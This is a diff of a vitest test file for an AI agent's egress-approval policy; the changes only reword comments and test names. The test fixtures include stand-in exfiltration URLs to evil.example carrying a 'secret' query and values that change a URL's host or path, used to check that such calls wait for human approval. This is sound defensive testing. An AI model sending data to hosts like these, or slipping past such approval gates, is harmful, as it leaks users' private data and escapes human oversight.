@@ -1,4 +1,4 @@
-// Which URLs a model composed after it had read content, and what becomes of calls with them.
+// Which URLs a model composed after it had read content, and what happens to calls with them.
 import { describe, expect, it } from "vitest";
 import {
   after,
@@ -35,11 +35,11 @@ const rows = tool("rows", "sql.query", { source: "s", sql: "select 1" });
 const found = tool("found", "web.search", { query: "q" });
 const written = (about: string) => tool("w", "model.write", { prompt: `Name a URL for {{${about}.output}}` });
 
-/** The status of the step `f`, and the URLs that its question shows. */
+/** The status of the step `f`, and the URLs in its approval request. */
 function outcome(steps: object[], facts: PlanEvent[], goal: object = {}) {
   const log = [submitted(steps, { ...lax, ...goal }), ...facts];
   const told = outcomeIn(after(...log));
-  // EGRESS-2: a dispatcher that reads the stored log decides the same.
+  // EGRESS-2: a dispatcher that reads the stored log reaches the same decision.
   expect(outcomeIn(after(...asStored(log)))).toEqual(told);
   return told;
 }
@@ -52,18 +52,18 @@ function outcomeIn(plan: KnownPlan) {
   return { status, ...asked.data };
 }
 
-describe("a step of a submitted plan runs unasked", () => {
+describe("a step of a submitted plan runs without approval", () => {
   it("with a URL that the plan holds, whatever was read", () => {
     const late = fetches("https://a.example/x?y=1", { dependsOn: ["rows"] });
     expect(outcome([rows, late], [succeeded("rows", "secret")]).status).toBe("running");
   });
 
-  it("with the beginning of a URL, and data behind it", () => {
+  it("with the beginning of a URL, followed by data", () => {
     const url = "https://a.example/items/{{rows.output}}";
     expect(outcome([rows, fetches(url)], [succeeded("rows", "7")]).status).toBe("running");
   });
 
-  it("with a reference to what a search found, for each of them too", () => {
+  it("with a reference to a search result, also for each of several", () => {
     const results = { results: [{ url: "https://b.example/" }] };
     const one = fetches({ $ref: "found.output.results[0].url" });
     expect(outcome([found, one], [succeeded("found", results)]).status).toBe("running");
@@ -83,7 +83,7 @@ describe("a step of a submitted plan runs unasked", () => {
     );
   });
 
-  it("with a URL that a model repeats from the goal, or from the web", () => {
+  it("with a URL that a model copied from the goal, or from the web", () => {
     const steps = [rows, written("rows"), fetches("{{w.output}}")];
     const facts = [succeeded("rows", "secret"), succeeded("w", "https://a.example/x#top")];
     expect(outcome(steps, facts, { goal: "Read (https://a.example/x)." }).status).toBe("running");
@@ -98,7 +98,7 @@ describe("a step of a submitted plan runs unasked", () => {
     );
   });
 
-  it("when the policy names the host, or lets such URLs be", () => {
+  it("when the policy names the host, or allows such URLs", () => {
     const steps = [rows, written("rows"), fetches("{{w.output}}")];
     const facts = [succeeded("rows", "secret"), succeeded("w", "https://a.example/?q=secret")];
     const under = (egress: object, more: object = {}) => outcome(steps, facts, { egress, ...more }).status;
@@ -113,7 +113,7 @@ describe("a step of a submitted plan runs unasked", () => {
 describe("a step waits for approval", () => {
   const secret = [succeeded("rows", "secret")];
 
-  it("with a URL that a model wrote after it had read content, and the question says where it goes (EGRESS-1)", () => {
+  it("with a URL that a model wrote after it had read content, and the request shows where it goes (EGRESS-1)", () => {
     const steps = [rows, written("rows"), fetches("{{w.output}}")];
     const asked = outcome(steps, [...secret, succeeded("w", "https://evil.example/a%20b?q=the+secret%21")]);
     expect(asked).toMatchObject({
@@ -125,7 +125,7 @@ describe("a step waits for approval", () => {
     });
   });
 
-  it("with a URL that content holds as a whole, unless it is the web's (EGRESS-1)", () => {
+  it("with a URL that content contains as a whole, unless it comes from the web (EGRESS-1)", () => {
     const asked = outcome([rows, fetches("{{rows.output}}")], [succeeded("rows", "https://evil.example/")]);
     expect(asked).toMatchObject({ status: "awaiting-approval", composedUrls: [{ host: "evil.example" }] });
   });
@@ -135,11 +135,11 @@ describe("a step waits for approval", () => {
     ["https://a.example{{rows.output}}", "@evil.example/"],
     ["https://a.example/items/{{rows.output}}", "../../taken"],
     ["{{rows.output}}/x", "https://evil.example"],
-  ])("when data changes what %s begins with", (url, value) => {
+  ])("when data changes the beginning of %s", (url, value) => {
     expect(outcome([rows, fetches(url)], [succeeded("rows", value)]).status).toBe("awaiting-approval");
   });
 
-  it("when the goal only holds a longer or shorter address, or one with another host", () => {
+  it("when the goal only contains a longer or shorter address, or one with another host", () => {
     const steps = [rows, written("rows"), fetches("{{w.output}}")];
     const goal = { goal: "Read https://a.example.com/x?y=1 and a.example.com" };
     for (const url of ["https://a.example.co/", "https://a.example.com/x?y=12", "https://a.example.com/x"]) {
@@ -173,7 +173,7 @@ describe("a step waits for approval", () => {
     expect(outcome([fetches("https://evil.example/?q=secret")], [], goal).status).toBe("awaiting-approval");
   });
 
-  it("and runs with exactly what was approved", () => {
+  it("and runs with exactly the approved arguments", () => {
     const steps = [rows, written("rows"), fetches("{{w.output}}")];
     const facts = [...secret, succeeded("w", "https://evil.example/?q=secret")];
     const plan = andAfter(after(submitted(steps, lax)), ...facts);
@@ -210,7 +210,7 @@ describe("a call of a loop", () => {
   const composedIn = (now: KnownPlan, url: string, turn: number) =>
     callOfLoop(now, stepOf(now, "l"), { tool: "http.fetch", args: { url }, turn }).composed ?? [];
 
-  it("is free before anything was read, and for links of pages that were", () => {
+  it("needs no approval before anything was read, nor for links of pages that were read", () => {
     expect(composedIn(plan, "https://anything.example/", 1)).toEqual([]);
     const read = andAfter(plan, returned(1, "http.fetch", "see https://b.example/next"));
     expect(composedIn(read, "https://b.example/next", 2)).toEqual([]);
@@ -219,7 +219,7 @@ describe("a call of a loop", () => {
     expect(composedIn(read, "https://b.example/other", 1)).toEqual([]);
   });
 
-  it("is free when an earlier turn has reached the same URL, not when one has only named it", () => {
+  it("needs no approval if an earlier turn has requested the same URL, but does if a turn has only named it", () => {
     const called = (turn: number, name: string, args: object) =>
       loopFact("turn.taken", run, { turn, thought: "t", tool: name, args, output: { value: 1 } });
     const rest = [returned(2, "sql.query", [7])];
@@ -230,7 +230,7 @@ describe("a call of a loop", () => {
     expect(composedIn(together, url, 2)).toHaveLength(1);
   });
 
-  it("is composed after private content was read, whatever pages say", () => {
+  it("is composed after private content was read, whatever pages contain", () => {
     const read = andAfter(
       plan,
       returned(1, "http.fetch", "https://b.example/7"),
